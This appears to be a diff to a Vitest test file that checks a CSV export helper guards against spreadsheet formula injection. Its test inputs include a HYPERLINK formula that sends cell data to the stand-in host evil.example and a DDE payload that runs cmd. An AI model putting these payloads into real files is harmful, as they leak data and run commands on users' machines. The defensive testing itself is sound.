@@ -1,8 +1,23 @@
 // @vitest-environment node
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { CSV_HOSTILE_USERS, EDGE_CASE_PRODUCTS, HOSTILE_USER } from '../../../mocks/data';
 import { parseCsv } from '../../../test/parse-csv';
-import { csvField, csvFileName, csvRecord, csvRecords, plainDecimal } from './csv';
+import { csvField, csvFileName, csvHeader, csvRecord, csvRecords, plainDecimal } from './csv';
+
+/** What a spreadsheet starts a cell with, once it has split the line its way. */
+const FORMULA_START = /^[=+\-@]/;
+/** What it skips before reading a formula: whitespace, control characters, a stray quote. */
+// eslint-disable-next-line no-control-regex -- control characters are what it looks for
+const SKIPPED = /^[\s\x00-\x1f\x7f"]*/;
+
+/**
+ * The cells a spreadsheet could see in `text`, whichever of comma or semicolon it splits on and
+ * whether or not it honours the quotes: every piece between separators and line breaks.
+ */
+function possibleCells(text: string): string[] {
+  return text.split(/[,;\r\n]/).map((piece) => piece.replace(SKIPPED, ''));
+}
 
 describe('csvField', () => {
   it('neutralises what a spreadsheet would run, as OWASP lists it', () => {
@@ -12,22 +27,50 @@ describe('csvField', () => {
     expect(csvField('@cmd')).toBe(`"'@cmd"`);
     expect(csvField('\tcalc')).toBe(`"'\tcalc"`);
     expect(csvField('\rcalc')).toBe(`"'\rcalc"`);
+    expect(csvField('\ncalc')).toBe(`"'\ncalc"`);
     // Past a line break too, which papaparse's default pattern misses.
     expect(csvField('=1+1\nnext line')).toBe(`"'=1+1\nnext line"`);
   });
 
-  it('leaves the same characters alone further in, and plain text unquoted', () => {
-    expect(csvField('a=b+c-d@e')).toBe('a=b+c-d@e');
-    expect(csvField(' =1')).toBe(' =1');
-    expect(csvField('Mallory')).toBe('Mallory');
-    expect(csvField('')).toBe('');
-    expect(csvField("'quoted already")).toBe("'quoted already");
+  it('counts NUL, other control characters and whitespace before a trigger as part of it', () => {
+    expect(csvField('\u0000=HYPERLINK("http://evil.example/?"&B3,"Open")')).toBe(
+      `"'\u0000=HYPERLINK(""http://evil.example/?""&B3,""Open"")"`,
+    );
+    expect(csvField('\u0000\u0000=1+1')).toBe(`"'\u0000\u0000=1+1"`);
+    expect(csvField(' =1')).toBe(`"' =1"`);
+    expect(csvField('\u001f\u007f\u00a0+1')).toBe(`"'\u001f\u007f\u00a0+1"`);
+    expect(csvField('\u0000\tx')).toBe(`"'\u0000\tx"`);
   });
 
-  it('quotes commas, quotes, CR and LF as RFC 4180 says', () => {
+  it('guards a trigger after a semicolon, comma, tab or line break inside the text', () => {
+    // Excel in de/fr/es/it/nl splits on `;`: these were formula cells there.
+    expect(csvField('x;=1+1;')).toBe(`"x;'=1+1;"`);
+    expect(csvField("x;=cmd|' /C calc'!A0;")).toBe(`"x;'=cmd|' /C calc'!A0;"`);
+    expect(csvField('a\n=1+1;')).toBe(`"a\n'=1+1;"`);
+    expect(csvField('a\r\n@x')).toBe(`"a\r\n'@x"`);
+    expect(csvField('x; \u0000"-1')).toBe(`"x;' \u0000""-1"`);
+    expect(csvField('a,+1')).toBe(`"a,'+1"`);
+    expect(csvField('a\t=1')).toBe(`"a\t'=1"`);
+    // A leading CR is guarded where each kind of spreadsheet starts the cell: before it, and
+    // after it for one that takes the CR as the end of a row.
+    expect(csvField('\r=1+1')).toBe(`"'\r'=1+1"`);
+  });
+
+  it('leaves ordinary text as it is: names, e-mails, times, text with commas', () => {
+    expect(csvField('Jean-Luc')).toBe('"Jean-Luc"');
+    expect(csvField("O'Brien")).toBe(`"O'Brien"`);
+    expect(csvField('grace.hopper+test@example.com')).toBe('"grace.hopper+test@example.com"');
+    expect(csvField('2024-02-29T23:59:59Z')).toBe('"2024-02-29T23:59:59Z"');
+    expect(csvField('Home & Garden; Tools, Paint')).toBe('"Home & Garden; Tools, Paint"');
+    expect(csvField('a=b+c-d@e')).toBe('"a=b+c-d@e"');
+    expect(csvField('Line\r\nBreak')).toBe('"Line\r\nBreak"');
+    expect(csvField('Mallory')).toBe('"Mallory"');
+    expect(csvField('')).toBe('""');
+    expect(csvField("'quoted already")).toBe(`"'quoted already"`);
+  });
+
+  it('quotes every text field, doubling quotes, as RFC 4180 allows', () => {
     expect(csvField('Quote "the" Comma, Person')).toBe('"Quote ""the"" Comma, Person"');
-    expect(csvField('Line\nBreak')).toBe('"Line\nBreak"');
-    expect(csvField('a\r\nb')).toBe('"a\r\nb"');
     expect(csvField('"')).toBe('""""');
   });
 
@@ -39,6 +82,80 @@ describe('csvField', () => {
     expect(csvField(null)).toBe('');
     expect(csvField(undefined)).toBe('');
     expect(csvField(true)).toBe('true');
+  });
+});
+
+describe('the neutralising rule, for any text', () => {
+  // Strings made mostly of the characters that matter here, and arbitrary Unicode as well.
+  const tricky = fc.string({
+    unit: fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '\r',
+      '\n',
+      ';',
+      ',',
+      '"',
+      "'",
+      ' ',
+      '\u00a0',
+      '\u0000',
+      '\u001f',
+      '\u007f',
+      'a',
+      'Z',
+      '1',
+      '|',
+      '!',
+    ),
+  });
+  const text = fc.oneof(tricky, fc.string({ unit: 'binary' }));
+
+  it('leaves no possible cell starting with a formula, split on , or ; or line breaks', () => {
+    fc.assert(
+      fc.property(fc.array(text, { maxLength: 4 }), (values) => {
+        const line = csvRecord(values);
+        for (const cell of possibleCells(line)) expect(cell).not.toMatch(FORMULA_START);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('reads back as the same text with apostrophes added, and only at a cell start', () => {
+    fc.assert(
+      fc.property(text, (value) => {
+        const [[cell]] = parseCsv(csvRecord([value])) as [[string]];
+        expect(cell.replace(/'/g, '')).toBe(value.replace(/'/g, ''));
+        // Each added apostrophe is at the start or right after a separator or line break.
+        let added = 0;
+        for (let index = 0, from = 0; index < cell.length; index += 1) {
+          if (cell[index] === "'" && value[from] !== "'") {
+            expect(index === 0 || /[,;\t\r\n]/.test(cell[index - 1]!)).toBe(true);
+            added += 1;
+          } else {
+            from += 1;
+          }
+        }
+        expect(cell.length - value.length).toBe(added);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('writes the issue-22 names safely in a file split on semicolons', () => {
+    const names = ['x;=1+1;', "x;=cmd|' /C calc'!A0;", 'a\n=1+1;', '\r=1+1', '\u0000=1+1'];
+    const file = csvHeader(['id', 'name']) + names.map((name) => csvRecord(['u1', name])).join('');
+    for (const cell of possibleCells(file)) expect(cell).not.toMatch(FORMULA_START);
+  });
+});
+
+describe('csvHeader', () => {
+  it('writes the API field names bare, and anything else as text', () => {
+    expect(csvHeader(['id', 'name', 'email', 'created_at'])).toBe('id,name,email,created_at\r\n');
+    expect(csvHeader(['id', '=x'])).toBe(`id,"'=x"\r\n`);
   });
 });
 
@@ -67,13 +184,13 @@ describe('csvRecords', () => {
   it('reads back as the same cells, hostile values included, one CRLF-ended record each', () => {
     const users = [...CSV_HOSTILE_USERS, HOSTILE_USER];
     const fields = ['id', 'name', 'email', 'created_at'] as const;
-    const text = csvRecord(fields) + csvRecords(users, fields);
+    const text = csvHeader(fields) + csvRecords(users, fields);
     const rows = parseCsv(text);
     expect(rows[0]).toEqual(['id', 'name', 'email', 'created_at']);
     expect(rows).toHaveLength(users.length + 1);
     rows.slice(1).forEach((row, index) => {
       const user = users[index]!;
-      const name = /^[=+\-@\t\r]/.test(user.name) ? `'${user.name}` : user.name;
+      const name = /^[=+\-@]/.test(user.name) ? `'${user.name}` : user.name;
       expect(row).toEqual([user.id, name, user.email, user.created_at]);
     });
     expect(text.split('\r\n').at(-1)).toBe('');
